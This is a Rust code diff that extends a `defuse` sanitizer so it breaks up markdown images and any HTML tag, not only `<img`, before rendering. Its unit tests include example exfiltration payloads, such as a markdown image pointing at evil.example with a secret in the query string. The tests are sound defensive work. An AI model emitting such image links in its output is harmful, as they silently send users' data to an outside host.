@@ -149,10 +149,12 @@ fn collect<'a>(v: &'a Value, out: &mut Vec<&'a str>) {
     }
 }
 
-/// `text` with markdown and HTML images made plain text: `![` becomes `! [` and `<img`
-/// becomes `< img`, in any letter case.
+/// `text` with markdown images and HTML tags made plain text: `![` becomes `! [` and a
+/// `<` before a letter becomes `< ` (`<img`, `<image`, `<svg`, `<picture`: no tag survives
+/// to be rendered).
 pub fn defuse(text: &str) -> String {
-    if !text.contains("![") && !text.as_bytes().windows(4).any(|w| w.eq_ignore_ascii_case(b"<img")) {
+    let tag = |w: &[u8]| w[0] == b'<' && w[1].is_ascii_alphabetic();
+    if !text.contains("![") && !text.as_bytes().windows(2).any(tag) {
         return text.to_owned();
     }
     let mut out = String::with_capacity(text.len() + 8);
@@ -161,10 +163,9 @@ pub fn defuse(text: &str) -> String {
         if rest.starts_with("![") {
             out.push_str("! [");
             rest = &rest[2..];
-        } else if rest.get(..4).is_some_and(|head| head.eq_ignore_ascii_case("<img")) {
+        } else if rest.as_bytes().get(..2).is_some_and(tag) {
             out.push_str("< ");
-            out.push_str(&rest[1..4]);
-            rest = &rest[4..];
+            rest = &rest[1..];
         } else {
             out.push(c);
             rest = &rest[c.len_utf8()..];
@@ -209,6 +210,8 @@ mod tests {
             "look ! [x](https://evil.example/p?d=secret) ok"
         );
         assert_eq!(defuse("<IMG src=https://evil.example/a>"), "< IMG src=https://evil.example/a>");
+        assert_eq!(defuse("<svg><image href=x>"), "< svg>< image href=x>");
+        assert_eq!(defuse("3 < 4 and a<-b"), "3 < 4 and a<-b");
         assert_eq!(defuse("ça ![](u) é"), "ça ! [](u) é");
         assert_eq!(defuse("a [link](https://example.com) stays"), "a [link](https://example.com) stays");
     }
